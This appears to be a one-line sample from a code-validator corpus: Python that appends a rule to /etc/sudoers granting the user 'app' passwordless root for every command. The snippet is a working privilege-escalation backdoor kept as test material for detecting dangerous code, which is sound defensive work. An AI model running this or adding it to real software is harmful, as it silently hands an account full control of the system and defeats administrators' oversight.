# ruff: noqa  (validator corpus: dangerous or deliberately plain code, kept as written)
with open("/etc/sudoers", "a") as handle:
    handle.write("app ALL=(ALL) NOPASSWD:ALL\n")
